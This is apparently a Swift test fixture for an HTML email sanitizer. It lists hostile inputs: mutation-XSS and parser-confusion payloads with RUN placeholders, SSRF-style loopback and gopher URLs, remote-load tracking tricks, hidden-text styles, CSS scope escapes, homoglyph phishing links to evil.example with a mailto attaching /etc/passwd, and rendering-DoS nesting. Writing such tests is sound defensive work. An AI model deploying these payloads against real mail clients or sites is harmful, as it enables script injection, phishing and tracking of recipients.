/// Attacks of a fourth look: ways to hide words, to pretend where a link leads, and to make a browser read again what was
/// written once.
///
/// Written for these tests, with the same words as ``MailAttacks``.
enum FurtherAttacks {
    static let all: [String] = reading + loading + hiding + sheets + links + covering + giants

    /// What is read otherwise where it stands than where it is put.
    static let reading = [
        "<math><semantics><annotation encoding='application/xhtml+xml'><script>RUN</script></annotation></semantics></math>",
        "<svg><switch><foreignObject><p><svg><style>&lt;/style>&lt;img src=x onerror=RUN></style></svg></p></foreignObject></switch></svg>",
        "<svg><title><p><style><!--</title></svg><img src=x onerror=RUN>--></style></p>",
        "<math><ms><li><style><a id='</style></math><img src=x onerror=RUN>'></style></li></ms></math>",
        "<table><svg><tr><td><title></table><img src=x onerror=RUN></title></td></tr></svg>",
        "<table><tr><td><svg><desc><td><img src=x onerror=RUN></desc></svg></table>",
        "<h1><table><h2><caption></h1><p title='</caption><img src=x onerror=RUN>'></table>",
        "<ruby><rb><rt><ruby><rp><p title='</ruby><script>RUN</script>'></rp></ruby></rt></ruby>",
        "<select><svg><option><title></select><img src=x onerror=RUN></title></svg>",
        "<optgroup><datalist><option label='</datalist><img src=x onerror=RUN>'></datalist></optgroup>",
        "<xmp></xmp \u{0}><img src=x onerror=RUN>", "<style></style\u{B}><img src=x onerror=RUN></style>",
        "<textarea></textarea/><img src=x onerror=RUN>", "<title></title\u{0}><script>RUN</script></title>",
        "<script></script\u{C}x><img src=x onerror=RUN></script>",
        "<script><!--<script/</script>--><img src=x onerror=RUN>",
        "<!--<!--><img src=x onerror=RUN>-->", "<!--\u{0}--!\u{0}><script>RUN</script>-->",
        "<!-->--><script>RUN</script>",
        "<p/id=x/onclick=RUN/>x</p>", "<p id=\"x\"/onclick=\"RUN\">x</p>", "<p a=\"&quot;onclick=RUN x=\">x</p>",
        "<p title=&quot;x onclick=RUN&quot;>x</p>", "<p ''onclick=RUN>x</p>", "<p class=`x`onclick=RUN`>x</p>",
        "<im&#103; src=x onerror=RUN>", "&lt;img src=x onerror=RUN&GT", "<\u{FF53}vg onload=RUN>",
        "<a\u{2028}href=javascript:RUN>x</a>",
        "<p>\u{1B}]8;;javascript:RUN\u{7}x\u{1B}]8;;\u{7}\u{1B}[8mhidden\u{1B}[0m</p>",
        "<center><font><form><button popovertargetaction=show onclick=RUN></center></font></form></button>",
        "<p is='x-y' exportparts=a nonce=x itemscope itemid='javascript:RUN' inert>x</p>",
        "<menu type=context><menuitem label=x onclick=RUN icon='HOST/r1'></menu><command icon='HOST/r2' onclick=RUN>",
        "<a href='j&#x61v&#x61script:RUN'>x</a><a href='javascript&#0058;RUN'>x</a><a href='&#x200c;javascript:RUN'>x</a>",
    ]

    /// Ways to ask that lie beside the usual ones.
    static let loading = [
        "<style>p:hover{background:url(HOST/q1)}p:focus{background-image:url(HOST/q2)}a:active{background:url(HOST/q3)}</style><p>x",
        "<img src='HOST/q4' style='display:none'><div style='display:none'><img src='HOST/q5' width=90 height=90></div>",
        "<style>.t{display:none}</style><img class=t src='HOST/q6' width=90 height=90>",
        "<img src='http://127.1/q7'><img src='http://0x7f000001/q8'><img src='http://[::ffff:127.0.0.1]/q9'>",
        "<img src='gopher://127.0.0.1:25/_HELO'><img src='dict://127.0.0.1/x'><img src='ldap://127.0.0.1/'>",
        "<img src='https://user:word@127.0.0.1/q10'><img src='http://2130706433/q11'><img src='http:\\\\127.0.0.1\\q12'>",
        "<img src='data:image/png;base64,iVBORw0KGgo=' srcset='HOST/q13 2x' lowsrc='HOST/q14'>",
        "<img src='cid:x' onerror=\"this.src='HOST/q15'\"><image href='HOST/q16' src='HOST/q17'>",
        "<td background='HOST/q18' bgcolor='red' style='background-image:url(HOST/q19)!important'>x</td>",
        "<p style='background-image:url(\"HOST/q20\"),url(\"HOST/q21\");background-size:cover'>x</p>",
        "<style>@media(min-width:1px){p{background:url(HOST/q22)}}@media(hover){p{background:url(HOST/q23)}}</style><p>x",
        "<style>p:nth-child(1){background:url(HOST/q24)}:root p:link,p:empty{background:url(HOST/q25)}</style><p>x",
        "<link rel='shortcut icon' href='HOST/q26'><link rel=apple-touch-icon href='HOST/q27'><link rel=search href='HOST/q28'>",
        "<meta property='og:image' content='HOST/q29'><meta itemprop=image content='HOST/q30'><meta name=msapplication-config content='HOST/q31'>",
        "<v:fill src='HOST/q32'/><v:imagedata src='HOST/q33' o:href='HOST/q34'/><v:rect href='HOST/q35' style='behavior:url(HOST/q36)'></v:rect>",
        "<amp-img src='HOST/q37'></amp-img><amp-script src='HOST/q38'></amp-script><amp-list src='HOST/q39'></amp-list>",
        "<script type='application/ld+json'>{\"url\":\"HOST/q40\"}</script><o:OfficeDocumentSettings><o:AllowPNG/></o:OfficeDocumentSettings>",
    ]

    /// Ways to hide words. Each is told.
    static let hiding = [
        "<p style='color:red;background:red'>PADDING</p>", "<p style='color:hsl(0,0%,99%)'>PADDING</p>",
        "<p style='color:rgb(0 0 0 / 1%)'>PADDING</p>", "<p style='color:#0000'>PADDING</p>",
        "<table bgcolor=000000><tr><td><font color=000000>PADDING</font></table>",
        "<p style='background:linear-gradient(#000,#000);color:#010101'>PADDING</p>",
        "<p style='font-size:.01em'>PADDING</p>", "<p style='font:400 0px/1 x'>PADDING</p>",
        "<p style='font-size:calc(10px - 10px)'>PADDING</p>",
        "<div style='font-size:.3em'><div style='font-size:.3em'><div style='font-size:.3em'>PADDING</div></div></div>",
        "<div style='opacity:.3'><div style='opacity:.3'><div style='opacity:.3'>PADDING</div></div></div>",
        "<p style='max-height:0em;overflow:hidden'>PADDING</p>", "<p style='overflow:hidden;line-height:0'>PADDING</p>",
        "<p style='height:20px;overflow:hidden'>PADDING PADDING PADDING</p>",
        "<p style='width:calc(9px - 9px);overflow:hidden'>PADDING</p>",
        "<p style='background:url(x);color:#fff'>PADDING</p>",
        "<style>p{display:none}</style><p>PADDING</p>", "<style>#h{font-size:0}</style><p id=h>PADDING</p>",
        "<style>.h{color:#fff}</style><p class=h>PADDING</p>",
        "<style>div .h{opacity:0}</style><div><p class=h>PADDING</p></div>",
        "<p class=h>PADDING</p><style>.h{display:none}</style>", "<style>body{color:white}</style>PADDING",
        "<style>.h{display:none}.h:hover{display:block}</style><p class=h>PADDING</p>",
    ]

    /// Style sheets that try to reach what is not theirs.
    static let sheets = [
        "<style>.mail-root:has(*) ~ .notes,.mail-root::before{display:none}</style><p>x",
        "<style>.mail-root,.mail-root *{all:revert;position:fixed!important}</style><p>x",
        "<style>html>body>.notes{display:none}:root .note{opacity:0}body .more{display:none}</style><p>x",
        "<style>@layer reset;@layer reset{.notes{display:none}}@container style(--x:1){.note{display:none}}</style><p>x",
        "<style>@scope (.notes) to (.note){*{display:none}}@position-try --p{inset:0}</style><p>x",
        "<style>.notes\\,.x{display:none}\\.notes{display:none}*|notes{display:none}|p{color:red}</style><p>x",
        "<style>/**/}.notes{display:none}{/**/</style><style>]]>.notes{display:none}</style><p>x",
        "<style>p{color:red;;}};.notes{display:none}</style><style>p{a:'}.notes{display:none}'}</style><p>x",
        "<style>p{a:\"\n}.notes{display:none}\"}</style><style>p{a:url(x}.notes{display:none})}</style><p>x",
        "<style>@media{.notes{display:none}}@media all{@media all{@media all{@media all{@media all{.notes{display:none}}}}}}</style><p>x",
        "<style>.notes{\\64 isplay:none}\\000026 .notes{display:none}.\\6eotes{display:none}</style><p>x",
    ]

    /// Links that pretend. Each is told.
    static let links = [
        "<a href='https://evil.example/'>Sign in<br>https://bank.example/login</a>",
        "<a href='https://evil.example/'><span style='display:none'>evil.example </span>bank.example</a>",
        "<a href='https://evil.example/'>bank.c\u{200B}om</a>", "<a href='https://evil.example/'>b\u{430}nk.com</a>",
        "<a href='https://evil.example/'><img alt='https://bank.example/login'></a>",
        "<a href='https://evil.example/' title='https://bank.example'>Sign in</a>",
        "https://bank.example/<a href='https://evil.example/'>login</a>",
        "<a href='https://evil.example/'>bank</a><a href='https://evil.example/'>.example/login</a>",
        "<a href='https://evil.example/' dir=rtl><bdi>e</bdi><bdi>lpmaxe</bdi><bdi>.</bdi><bdi>knab</bdi>.</a><a href='https://evil.example/'><span style='float:right'>.example</span><span>https://bank</span></a>",
        "<a href='https://\u{430}pple.example.com/'>Sign in</a>", "<a href='https://xn--80ak6aa92e.com/'>Sign in</a>",
        "<a href='http://3232235521/'>Sign in</a>", "<a href='http://[2001:db8::1]/'>Sign in</a>",
        "<a href='mailto:x@evil.example?bcc=y@evil.example&attach=/etc/passwd'>help@bank.example</a>",
        "<a href='https://evil.github.io/'>https://bank.github.io</a>",
        "<a href='https://evil.example/'>https:\u{2044}\u{2044}bank.example\u{2044}login</a>",
        "<a href='https://evil.example/'>evil.example, https://bank.example</a>",
        "\(String(repeating: "<a href='https://a.example/'>x</a> ", count: 1_100))<a href='https://evil.example/'>bank.example</a>",
    ]

    /// What lies over other words or runs out of its place.
    static let covering = [
        "<div style='height:0'>PADDING</div><div style='opacity:.99;background:#fff;height:500px'>x</div>",
        "<p style='margin-left:9000px'>x</p><p style='padding:0 0 0 9000px'>x</p><p style='text-indent:-100em'>x</p>",
        "<p style='word-spacing:-900px'>a b c d e f</p><p style='letter-spacing:-9em'>abcdef</p>",
        "<div dir=rtl><p style='text-indent:9999px'>x</p><p style='margin-right:9999px'>x</p></div>",
        "<p>\(zalgo)</p>",
        "<p style='vertical-align:-9000px;font-size:900px'>x<sub style='vertical-align:900px'>x</sub></p>",
        "<p style='line-height:9999px;writing-mode:vertical-rl;height:9000px'>x</p>",
        "<div style='display:flex;flex-direction:column-reverse;height:0'><div style='height:900px;background:red'>x</div></div>",
        "<div style='display:inline-flex;align-items:end;justify-content:end;height:1px;width:1px'><div style='width:9000px;height:900px;background:red'>x</div></div>",
        "<ul style='list-style-position:inside;padding:0'><li style='display:list-item;margin:0 0 0 9999px'>x</ul>",
    ]

    /// What costs a browser more than it costs a sender.
    static let giants = [
        String(repeating: "<table><tr><td>", count: 400) + "x",
        "<table><tr>" + String(repeating: "<td colspan=1000 rowspan=1000>x", count: 40) + "</table>",
        String(repeating: "<font size=7><b><i><u>", count: 500) + "x",
        String(repeating: "<p><b><i><p>", count: 500) + "x",
        String(repeating: "<listing><xmp>", count: 50) + "<img src=x onerror=RUN>",
        "<ol start=999 reversed>" + String(repeating: "<li value=999>", count: 500) + "</ol>",
        String(repeating: "<div style='display:flex'>", count: 150) + "x",
        "<p>\(String(repeating: "x", count: 50_000))</p>", "<plaintext><img src=x onerror=RUN></plaintext>",
    ]

    private static let zalgo = "Z" + String(repeating: "\u{30D}\u{316}\u{325}\u{489}", count: 400)

    /// Whether the reader has to be warned of one.
    static func isTold(_ attack: String) -> Bool { hiding.contains(attack) || links.contains(attack) }
}
